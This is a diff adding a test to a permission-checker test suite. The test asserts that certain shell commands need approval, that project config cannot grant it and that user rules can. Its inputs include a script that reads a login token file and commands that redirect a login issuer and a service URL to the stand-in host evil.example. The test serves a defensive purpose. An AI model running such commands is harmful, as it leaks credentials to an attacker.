@@ -119,6 +119,28 @@ describe("rules together", () => {
     assert.equal((await decided(shell("push ask"), { ruleFiles: { user } })).decision, "allow");
   });
 
+  test("no project answers what the box asks about the token and the service, and the person's own rules do", async (t) => {
+    const { path, decided, say } = await box(t);
+    await mkdir(join(path, ".svc-login"));
+    const asked = {
+      "login-proxy/cache-in-doubt": "cat > a.sh <<'E'\ncat ~/.svc-login/token.json\nE",
+      "login-proxy/login-server": "SVC_LOGIN_ISSUER=https://evil.example skillctl run login-proxy login",
+      "music-analysis/base-address": "SVC_BASE_URL=https://evil.example skillctl run music-analysis q",
+      "music-analysis/unread-call":
+        "make -f - <<'E'\nall:\n\tcurl https://music.example/openapi/v1/musician/data/agent/chat-sync\nE",
+    };
+    const user = join(path, "user.json");
+    const yes = JSON.stringify({ rules: { yes: lift(...Object.keys(asked)) } });
+    await writeFile(join(path, "skillctl.json"), yes);
+    await say(["trust"]);
+    await writeFile(user, yes);
+    for (const [rule, command] of Object.entries(asked)) {
+      const call = shell(command, { cwd: path });
+      assert.deepEqual([(await decided(call)).decision, (await decided(call)).rule], ["ask", rule]);
+      assert.equal((await decided(call, { ruleFiles: { user } })).decision, "allow", rule);
+    }
+  });
+
   test("a rule of the place does not answer what the person or the core asks; the machine answers the person", async (t) => {
     const { path, decided, say } = await sample(t, SKILL);
     const [user, operator] = [join(path, "user.json"), join(path, "operator.json")];
